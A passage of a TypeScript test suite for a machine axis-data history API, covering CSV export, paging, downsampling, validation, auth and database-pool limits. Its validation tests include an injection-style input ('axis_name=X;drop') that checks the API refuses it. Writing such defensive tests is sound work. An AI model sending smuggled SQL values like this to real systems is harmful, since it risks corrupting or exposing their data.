        [axis.axis_id, iso(from), i],
      );
    }
    const query = `machine_id=${machine.machine_id}&from=${iso(from)}&to=${iso(from + day)}`;
    const json = await rows(query);
    expect(json).toHaveLength(50_000);
    expect(new Set(json.map((row) => row.axis_data_id)).size).toBe(50_000);
    for (let i = 0; i < json.length; i++) {
      const row = json[i]!;
      const n = i % 25_000;
      expect(row.axis_name).toBe(i < 25_000 ? "X" : "Y");
      if (row.update_timestamp !== iso(from + n * 10) || row.actual_position !== n * 0.5) {
        throw new Error(`row ${i} out of place: ${JSON.stringify(row)}`);
      }
    }

    const csv = await get(`${query}&format=csv`);
    expect(csv.statusCode).toBe(200);
    expect(csv.headers["content-type"]).toBe("text/csv; charset=utf-8");
    expect(csv.headers["content-disposition"]).toBe(
      `attachment; filename="axis-data-${iso(from).replace(/[-:]/g, "").replace(".000", "")}-${iso(
        from + day,
      )
        .replace(/[-:]/g, "")
        .replace(".000", "")}.csv"`,
    );
    const [header, ...records] = parseCsv(csv.body);
    expect(header).toEqual(Object.keys(json[0]!));
    expect(records).toEqual(json.map((row) => Object.values(row).map(String)));
  });

  it("a client that stops reading stops the queries; when it reads again, every row arrives", async () => {
    // A long name makes each CSV row ~350 bytes: 28 MB in all, far more than socket buffers hold.
    const { machine, axes } = await machineWithAxes(["X"], { machine_name: "M".repeat(255) });
    const from = freshDay();
    await insertRun(axes.X!.axis_id, from, 80_000, "1 millisecond");
    // The real service and routes on a real socket; only the page queries are counted.
    let pageQueries = 0;
    const db = new Proxy(t.database.db, {
      get(target, property, receiver) {
        if (property !== "query") return Reflect.get(target, property, receiver);
        return (sql: string, params?: unknown[]) => {
          if (sql.includes("from axis_data")) pageQueries++;
          return target.query(sql, params);
        };
      },
    });
    const app = Fastify();
    app.setValidatorCompiler(validatorCompiler);
    await app.register(historyRoutes, {
      history: createHistoryService({ db, clock: t.clock, pageSize: 500 }),
    });
    const address = await app.listen({ port: 0, host: "127.0.0.1" });
    let response: IncomingMessage | undefined;
    try {
      response = await new Promise<IncomingMessage>((resolve) => {
        httpGet(
          `${address}/api/axis-data/?machine_id=${machine.machine_id}&from=${iso(from)}&to=${iso(from + day)}&format=csv`,
          resolve,
        );
      });
      response.pause();
      // Wait until the server stops fetching: the buffers between it and us are full.
      let whilePaused = -1;
      for (let stable = 0; stable < 4; ) {
        await sleep(250);
        stable = pageQueries === whilePaused ? stable + 1 : 0;
        whilePaused = pageQueries;
      }
      // 160 pages in all; a stalled reader leaves most of them unread in the database (here
      // ~28 pages, ~5 MB, sit in socket buffers).
      expect(whilePaused).toBeLessThan(100);
      let lines = 0;
      for await (const chunk of response) {
        const buffer = chunk as Buffer;
        for (let i = buffer.indexOf(10); i !== -1; i = buffer.indexOf(10, i + 1)) lines++;
      }
      expect(lines).toBe(80_001);
      // 160 full pages, then the empty rest of the day in 6 slices, each 16× wider than the last.
      expect(pageQueries).toBe(166);
    } finally {
      response?.destroy();
      await app.close();
    }
  }, 60_000);

  it("lets other requests in between its pages, to a client that reads as fast as it can", async () => {
    // The embedded database answers in the server's own thread without any I/O: an export read
    // at once by its client never waited for anything, so nothing else (ingest, the live feed,
    // /healthz) was served until it ended.
    const { machine, axes } = await machineWithAxes(["X"]);
    const from = freshDay();
    await insertRun(axes.X!.axis_id, from, 40_000, "1 millisecond");
    const app = Fastify();
    app.setValidatorCompiler(validatorCompiler);
    await app.register(historyRoutes, {
      history: createHistoryService({ db: t.database.db, clock: t.clock, pageSize: 500 }),
    });
    app.get("/ping", async () => "pong");
    const address = await app.listen({ port: 0, host: "127.0.0.1" });
    try {
      // The client in a process of its own, so its reads do not share the server's thread: once
      // the export has begun, it asks /ping on another connection, and says which ended first.
      const client = `
        const http = require("node:http");
        const order = [];
        http.get(process.argv[1], (response) => {
          let pinged = false;
          response.on("data", () => {
            if (pinged) return;
            pinged = true;
            http.get(process.argv[2], (ping) => ping.resume().on("end", () => order.push("ping")));
          });
          response.on("end", () => {
            order.push("export");
            setTimeout(() => console.log(JSON.stringify(order)), 500);
          });
        });`;
      const { stdout } = await execFileAsync(process.execPath, [
        "-e",
        client,
        `${address}/api/axis-data/?machine_id=${machine.machine_id}&from=${iso(from)}&to=${iso(from + day)}&format=csv`,
        `${address}/ping`,
      ]);
      expect(JSON.parse(stdout)).toEqual(["ping", "export"]);
    } finally {
      await app.close();
    }
  }, 60_000);

  it("pages by the exact timestamp, so samples microseconds apart are neither lost nor repeated", async () => {
    const { machine, axes } = await machineWithAxes(["X"]);
    const from = freshDay();
    await insertRun(axes.X!.axis_id, from, 11, "1 microsecond");
    const history = createHistoryService({ db: t.database.db, clock: t.clock, pageSize: 3 });
    const answer = await history.query({
      machineIds: [machine.machine_id],
      from: new Date(from),
      to: new Date(from + 1),
    });
    const seen: unknown[] = [];
    let pages = 0;
    for await (const page of answer.pages()) {
      pages++;
      seen.push(...page.rows.map((row) => Number(row.actual_position)));
    }
    expect(seen).toEqual(Array.from({ length: 11 }, (_, n) => n));
    expect(pages).toBe(4);
  });

  it("keeps the microseconds of from and to, raw and downsampled", async () => {
    const { machine, axes } = await machineWithAxes(["X"]);
    const axis = axes.X!.axis_id;
    const start = freshDay() + 10 * minute;
    const at = (ms: number, micros: string) => iso(start + ms).replace("Z", `${micros}Z`);
    const times = [
      at(0, "200"),
      at(0, "600"),
      at(30 * second, ""),
      at(minute - 1, "700"),
      at(minute, "300"),
    ];
    await t.services.partitions.ensure([start]);
    await t.database.db.query(
      `insert into axis_data (axis_id, update_timestamp, actual_position, target_position, homed,
                              acceleration, velocity)
       select $1, t, 0, 0, true, 0, 0 from unnest($2::timestamptz[]) t`,
      [axis, times],
    );
    for (const time of times) t.services.rollups.noteSample(axis, Date.parse(time));
    await t.services.rollups.flush();
    const window = (from: string, to: string, extra = "") =>
      rows(`machine_id=${machine.machine_id}&from=${from}&to=${to}${extra}`);
    const stamps = (answer: Record<string, unknown>[]) => answer.map((row) => row.update_timestamp);
    // From inclusive and to exclusive, to the microsecond: not the samples' milliseconds.
    expect(stamps(await window(at(0, "400"), at(minute, "300")))).toEqual([
      at(0, "600"),
      at(30 * second, ""),
      at(minute - 1, "700"),
    ]);
    // A window within one millisecond is a window, not "to before from".
    expect((await window(at(0, "100"), at(0, "700"))).length).toBe(2);
    expect((await window(at(0, "100"), at(0, "500"))).length).toBe(1);
    // Downsampled, a window starting 400 µs into a rollup's second leaves that row to raw
    // samples, which hold one of its two.
    const [bucket] = await window(at(0, "400"), iso(start + 60 * minute), "&max_points=1");
    expect(bucket).toMatchObject({ samples: 4 });
    const [whole] = await window(iso(start), iso(start + 60 * minute), "&max_points=1");
    expect(whole).toMatchObject({ samples: 5 });
    // Minute buckets from `start`: cut by 400 µs, the first is not whole, so it is not cached
    // for the window that starts on the minute.
    const minutes = (from: string) => window(from, iso(start + 60 * minute), "&max_points=60");
    expect((await minutes(at(0, "400")))[0]).toMatchObject({ samples: 3 });
    expect((await minutes(iso(start)))[0]).toMatchObject({ samples: 4 });
    // A window that ends 400 µs into a millisecond counts the sample 100 µs before; one that
    // ends 500 µs before a second leaves a sample 200 µs later out of that second's rollup row.
    const [ending] = await window(iso(start), at(minute, "400"), "&max_points=1");
    expect(ending).toMatchObject({ samples: 5 });
    const total = (answer: Record<string, unknown>[]) =>
      answer.reduce((sum, row) => sum + Number(row.samples), 0);
    expect(total(await window(iso(start), at(minute - 1, "500"), "&max_points=60"))).toBe(3);
  });

  it("pages a series dense in one part of the window and sparse in the rest, every sample once, in order", async () => {
    const { machine, axes } = await machineWithAxes(["X"]);
    const from = freshDay();
    await t.services.partitions.ensure([from]);
    // One sample every 10 minutes all day, and 100 Hz for a minute at 15:00 (what a machine
    // streams while it cuts): the planner's statistics spread those over the day.
    await t.database.db.query(
      `insert into axis_data (axis_id, update_timestamp, actual_position, target_position, homed,
                              acceleration, velocity)
       select $1, $2::timestamptz + at, 0, 0, true, 0, 0
       from (select n * interval '10 minutes' from generate_series(0, 143) n
             union all
             select interval '15 hours 3 seconds' + n * interval '10 milliseconds'
             from generate_series(0, 5999) n) times(at)`,
      [axes.X!.axis_id, iso(from)],
    );
    const { rows: stored } = await t.database.db.query<{ t: string }>(
      `select to_char(update_timestamp at time zone 'UTC', 'YYYY-MM-DD"T"HH24:MI:SS.MS"Z"') as t
       from axis_data where axis_id = $1 order by update_timestamp`,
      [axes.X!.axis_id],
    );
    expect(stored).toHaveLength(6144);
    const history = createHistoryService({ db: t.database.db, clock: t.clock, pageSize: 250 });
    const answer = await history.query({
      machineIds: [machine.machine_id],
      from: new Date(from),
      to: new Date(from + day),
    });
    const seen: string[] = [];
    for await (const page of answer.pages()) {
      expect(page.rows.length).toBeLessThanOrEqual(250);
      seen.push(...page.rows.map((row) => `${String(row.t).slice(0, 23)}Z`));
    }
    expect(seen).toEqual(stored.map((row) => row.t));
  });

  it("a downsampled answer is the same in CSV as in JSON", async () => {
    const { machine, axes } = await machineWithAxes(["X", "C"]);
    const from = freshDay();
    await insertSamples(axes.X!.axis_id, curve(from, 300, 200, 1));
    await insertSamples(axes.C!.axis_id, curve(from, 300, 200, 2));
    const query = `machine_id=${machine.machine_id}&from=${iso(from)}&to=${iso(from + minute)}&max_points=13`;
    const json = await rows(query);
    const [header, ...records] = parseCsv((await get(`${query}&format=csv`)).body);
    expect(header).toEqual(Object.keys(json[0]!));
    expect(records).toEqual(json.map((row) => Object.values(row).map(String)));
  });
});

describe("refusals", () => {
  const now = Date.now();
  const badQueries: [string, string][] = [
    ["machine_id=abc", "machine_id"],
    ["machine_id=0", "machine_id"],
    ["machine_id=1,,2", "machine_id"],
    ["machine_id=99999999999999999999", "machine_id"],
    ["machine_id=1.5", "machine_id"],
    [`machine_id=${Array.from({ length: 1001 }, (_, i) => i + 1).join(",")}`, "machine_id"],
    ["axis_name=", "axis_name"],
    ["axis_name=X;drop", "axis_name"],
    [`axis_name=${"A".repeat(33)}`, "axis_name"],
    ["minutes=0", "minutes"],
    ["minutes=-5", "minutes"],
    ["minutes=abc", "minutes"],
    ["minutes=1.5", "minutes"],
    ["minutes=99999999", "minutes"],
    ["minutes=0x10", "minutes"],
    ["minutes=Infinity", "minutes"],
    ["minutes=%205", "minutes"],
    ["machine_id=0x10", "machine_id"],
    ["max_points=1e3", "max_points"],
    ["from=yesterday", "from"],
    ["from=2026-02-30T00:00:00Z", "from"],
    ["to=2026-13-01T00:00:00Z", "to"],
    [`from=${iso(now)}&to=${iso(now)}`, "to"],
    [`from=${iso(now)}&to=${iso(now - 1)}`, "to"],
    [`from=${iso(now - 401 * day)}&to=${iso(now)}`, "from"],
    ["from=0001-01-01T00:00:00Z&to=9999-12-31T00:00:00Z", "from"],
    [`from=${iso(now - day)}&to=${iso(now)}&minutes=5`, "minutes"],
    // 15 minutes before year 1, and 5 minutes past 9999.
    ["to=0001-01-01T00:05:00Z", "from"],
    ["from=9999-12-31T23:59:00Z&minutes=5", "from"],
    [`from=${iso(now + day)}`, "to"],
    ["fields=colour", "fields"],
    ["fields=velocity,", "fields"],
    ["fields=axis_data_id", "fields"],
    ["fields=", "fields"],
    ["fields=&max_points=10", "fields"],
    ["max_points=0", "max_points"],
    ["max_points=100001", "max_points"],
    ["max_points=ten", "max_points"],
    ["format=xml", "format"],
    ["format=", "format"],
    ["colour=red", "colour"],
  ];
  for (const [query, field] of badQueries) {
    it(`GET ?${query.slice(0, 80)} is 400 naming ${field}`, async () => {
      const answer = await get(query);
      expect(answer.statusCode, answer.body).toBe(400);
      expect(Object.keys(answer.json())).toContain(field);
    });
  }

  const badBodies: [unknown, string][] = [
    [{ machine_id: "abc" }, "machine_id"],
    [{ machine_id: -1 }, "machine_id"],
    [{ machine_id: [1, "x"] }, "machine_id"],
    [{ machine_id: true }, "machine_id"],
    [{ machine_id: { id: 1 } }, "machine_id"],
    [{ axis_name: [5] }, "axis_name"],
    [{ axis_name: "" }, "axis_name"],
    [{ minutes: "15" }, "minutes"],
    [{ minutes: 1e12 }, "minutes"],
    [{ from: 1_700_000_000 }, "from"],
    [{ fields: ["velocity", "colour"] }, "fields"],
    [{ fields: 5 }, "fields"],
    [{ fields: [] }, "fields"],
    [{ fields: [], max_points: 10 }, "fields"],
    [{ fields: [], max_points: 10, format: "csv" }, "fields"],
    [{ max_points: 0 }, "max_points"],
    [{ max_points: "1000" }, "max_points"],
    [{ format: "xml" }, "format"],
    [{ colour: "red" }, "colour"],
  ];
  for (const [body, field] of badBodies) {
    it(`POST ${JSON.stringify(body)} is 400 naming ${field}`, async () => {
      const answer = await post(body);
      expect(answer.statusCode, answer.body).toBe(400);
      // The field, or an item of it (`machine_id.1`).
      const named = Object.keys(answer.json()).map((key) => key.split(".")[0]);
      expect(named).toContain(field);
    });
  }

  it("names every bad parameter at once, a numeral in another base among them", async () => {
    const answer = await get("minutes=0x10&format=xml");
    expect(answer.statusCode, answer.body).toBe(400);
    expect(Object.keys(answer.json()).sort()).toEqual(["format", "minutes"]);
    expect(answer.json().minutes).toEqual(["A valid integer is required."]);
  });

  it("names a list's bad item alone, not every shape the field could have had", async () => {
    const answer = await post({ machine_id: ["81258856"], minutes: "1" });
    expect(answer.statusCode, answer.body).toBe(400);
    expect(answer.json()).toEqual({
      "machine_id.0": ["A valid integer is required."],
      minutes: ["A valid integer is required."],
    });
    const single = await post({ machine_id: true });
    expect(single.statusCode, single.body).toBe(400);
    expect(Object.keys(single.json())).toEqual(["machine_id"]);
  });

  for (const [what, payload] of [
    ["malformed JSON", '{"minutes": 1,'],
    ["an array", "[]"],
    ["a string", '"x"'],
    ["null", "null"],
    ["a number too large for a double", '{"max_points": 1e400}'],
  ] as const) {
    it(`POST with ${what} as the body is 400`, async () => {
      const answer = await t.inject({
        method: "POST",
        url: "/api/axis-data/",
        headers: { ...t.adminAuth, "content-type": "application/json" },
        payload,
      });
      expect(answer.statusCode, answer.body).toBe(400);
    });
  }

  it("an empty list of fields is refused by the service too, whatever the transport", async () => {
    const history = createHistoryService({ db: t.database.db, clock: t.clock });
    for (const maxPoints of [undefined, 10]) {
      await expect(history.query({ fields: [], maxPoints })).rejects.toMatchObject({
        code: "validation",
        fields: { fields: [emptyFields] },
      });
    }
    expect((await post({ fields: [], max_points: 10 })).json()).toEqual({ fields: [emptyFields] });
  });

  it("documents both answer shapes and every parameter in OpenAPI", async () => {
    const answer = await t.inject({ method: "GET", url: "/openapi.json" });
    expect(answer.statusCode).toBe(200);
    const path = answer.json().paths["/api/axis-data/"];
    const names = path.get.parameters.map((parameter: { name: string }) => parameter.name);
    expect(names.sort()).toEqual(
      ["axis_name", "fields", "format", "from", "machine_id", "max_points", "minutes", "to"].sort(),
    );
    const text = JSON.stringify(path.post.responses["200"]);
    for (const column of ["axis_data_id", "velocity_min", "velocity_max", "samples"]) {
      expect(text).toContain(column);
    }
  });

  it("answers 401 without a token and 403 without axisdata.view; every group may read", async () => {
    const anonymous = await t.inject({ method: "GET", url: "/api/axis-data/" });
    expect(anonymous.statusCode).toBe(401);
    expect(anonymous.json()).toEqual({ detail: "Authentication credentials were not provided." });
    const bad = await get("", { authorization: "Bearer nope" });
    expect(bad.statusCode).toBe(401);
    const noGroup = await t.userAuth([]);
    for (const answer of [
      await get("", { authorization: noGroup.authorization }),
      await post({}, { authorization: noGroup.authorization }),
    ]) {
      expect(answer.statusCode).toBe(403);
      expect(answer.json()).toEqual({
        detail: "You do not have permission to perform this action.",
      });
    }
    for (const group of ["Operator", "Supervisor", "Manager"]) {
      const user = await t.userAuth([group]);
      expect((await get("minutes=1", { authorization: user.authorization })).statusCode).toBe(200);
    }
  });
});

describe.runIf(testDatabaseKind() === "postgres")("history's share of the pool", () => {
  /**
   * Holds every rollup tier locked from a connection of its own, so each downsampled history
   * statement waits inside the database, holding its pooled connection, until `release`.
   */
  async function lockRollups() {
    const locker = new pg.Client({
      connectionString: t.database.url,
      options: `-c search_path=${t.database.schema}`,
    });
    await locker.connect();
    await locker.query("begin");
    await locker.query(
      "lock table axis_data_1s, axis_data_5s, axis_data_10s, axis_data_1m in access exclusive mode",
    );
    let released = false;
    return {
      /** History statements now waiting for the lock. */
      async waiting(): Promise<number> {
        const { rows } = await locker.query<{ n: number }>(
          `select count(*)::int as n from pg_locks
           where not granted and relation = any(array['axis_data_1s', 'axis_data_5s', 'axis_data_10s', 'axis_data_1m']::regclass[])`,
        );
        return rows[0]!.n;
      },
      async until(count: number): Promise<void> {
        for (let tries = 0; (await this.waiting()) < count; tries++) {
          if (tries > 500) throw new Error(`never ${count} statements waiting`);
          await sleep(10);
        }
      },
      async release() {
        if (released) return;
        released = true;
        await locker.query("commit");
        await locker.end();
      },
    };
  }

  /** A day of samples of a machine of its own: its downsampled window, as a query string. */
  async function downsampledWindow() {
    const { machine, axes } = await machineWithAxes(["X"]);
    const start = freshDay();
    await insertSamples(axes.X!.axis_id, curve(start, 600, second));
    const input = {
      machineIds: [machine.machine_id],
      from: new Date(start),
      to: new Date(start + day),
      maxPoints: 24,
    };
    const query = `machine_id=${machine.machine_id}&from=${iso(start)}&to=${iso(start + day)}&max_points=24`;
    return Object.assign(query, { input });
  }

  it("takes at most half the connections, so ingest still commits while long windows run", async () => {
    const window = await downsampledWindow();
    const machine = await createMachine(t);
    const tool = await createTool(t, machine.machine_id);
    const ingest = () =>
      t.inject({
        method: "POST",
        url: "/api/ingest/",
        headers: t.adminAuth,
        payload: { tool_data: [{ tool_id: tool.tool_id, tool_offset: 3.5, feedrate: 900 }] },
      });
    expect((await ingest()).statusCode).toBe(202);
    const lock = await lockRollups();
    let answers: Promise<{ statusCode: number; body: string }[]>;
    try {
      // Twice as many windows as the pool has connections (4 in the tests).
      answers = Promise.all(Array.from({ length: 8 }, () => get(window)));
      await lock.until(2);
      const committed = await ingest();
      expect(committed.statusCode, committed.body).toBe(202);
      expect(await lock.waiting()).toBe(2);
    } finally {
      await lock.release();
    }
    for (const answer of await answers) expect(answer.statusCode, answer.body).toBe(200);
    const stored = await t.database.db.query<{ tool_offset: number }>(
      "select tool_offset from tool where tool_id = $1",
      [tool.tool_id],
    );
    expect(stored.rows[0]!.tool_offset).toBe(3.5);
  });

  it("answers 503 with Retry-After when its turn does not come in time", async () => {
    const window = await downsampledWindow();
    const app = Fastify();
    app.setValidatorCompiler(validatorCompiler);
    registerErrorHandler(app);
    await app.register(historyRoutes, {
      history: createHistoryService({ db: t.database.db, clock: t.clock, busyWaitMs: 100 }),
    });
    const lock = await lockRollups();
    try {
      const held = [
        app.inject(`/api/axis-data/?${window}`),
        app.inject(`/api/axis-data/?${window}`),
      ];
      await lock.until(2);
      const late = await app.inject(`/api/axis-data/?${window}`);
      expect(late.statusCode).toBe(503);
      expect(late.headers["retry-after"]).toBe("1");
      expect(late.json()).toEqual({ detail: "History is busy; retry later." });
      await lock.release();
      for (const answer of await Promise.all(held)) expect(answer.statusCode).toBe(200);
    } finally {
      await lock.release();
      await app.close();
    }
  });

  it("once an answer has begun, its pages wait their turn however long instead of cutting it off", async () => {
    const history = createHistoryService({ db: t.database.db, clock: t.clock, busyWaitMs: 100 });
    const read = async (answer: Awaited<ReturnType<typeof history.query>>) => {
      let rows = 0;
      for await (const page of answer.pages()) rows += page.rows.length;
      return rows;
    };
    const mine = (await downsampledWindow()).input;
    const other = (await downsampledWindow()).input;
    const expected = await read(await history.query(mine));
    expect(expected).toBeGreaterThan(0);
    const begun = await history.query(mine);
    const lock = await lockRollups();
    try {
      // Two answers take both of history's turns and wait inside the database.
      const holding = [1, 2].map(async () => read(await history.query(other)));
      await lock.until(2);
      const reading = read(begun);
      // Past busyWaitMs, the begun answer's page is still waiting, not refused.
      await sleep(300);
      await lock.release();
      expect(await reading).toBe(expected);
      for (const rows of await Promise.all(holding)) expect(rows).toBe(expected);
    } finally {
      await lock.release();
    }
  });
});
